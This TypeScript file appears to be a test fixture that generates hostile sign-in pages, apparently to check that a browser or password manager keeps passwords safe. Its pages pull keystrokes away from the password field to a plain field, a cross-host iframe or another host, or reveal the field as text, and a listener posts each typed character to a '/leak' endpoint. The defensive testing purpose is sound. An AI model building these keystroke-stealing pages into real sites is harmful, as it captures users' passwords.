/** A page whose password field does something at an event: by then it may hold a part of the password. */
const page = (
  events: string,
  act: string,
  rest = "",
  onsubmit = "",
): string => `<!doctype html><title>Sign in</title>
<form method=post action="/one" onsubmit="${onsubmit}">
<p><input id=user name=user autocomplete=username></p>
<p><input id=password name=password type=password></p><button id=go>Sign in</button></form>
<p><input id=plain></p>${rest}
<script>
  const password = document.querySelector("#password");
  for (const name of ${JSON.stringify(events.split(" "))}) password.addEventListener(name, () => { ${act} });
</script>${listening("plain")}`;

/** Tells the server of each character that a field is given, before the browser goes on. */
const listening = (id: string): string => `<script>{
  const field = document.querySelector("#${id}");
  const leak = (text) => {
    const request = new XMLHttpRequest();
    request.open("POST", "/leak", false);
    request.send(text);
  };
  field.addEventListener("keydown", ({ key }) => key.length === 1 && leak(key));
  field.addEventListener("input", () => leak(field.value));
}</script>`;

const KEYS = "keydown beforeinput input";

/** Pages that lead a password astray while it is written. `other`: the same site under another host name. */
export const hostilePages = (other: string): Record<string, string> => ({
  "/to-field": page(KEYS, "plain.focus()"),
  "/to-frame": page(
    KEYS,
    "trap.focus(); trap.contentWindow.postMessage('now', '*')",
    `<iframe id=trap width=100 height=50 src="${other}trap"></iframe>`,
  ),
  "/to-host": page(KEYS, `location = "${other}trap"`, "", "return false"),
  "/reveals": page(KEYS, "password.type = 'text'", "", "return false"),
  "/swaps": page("focus", "password.type = 'text'"),
  "/bounces": page("focus", "plain.focus()"),
  "/trap": `<!doctype html><title>Trap</title><input id=trap type=password autofocus>
<script>addEventListener("message", () => document.querySelector("#trap").focus())</script>${listening("trap")}`,
});
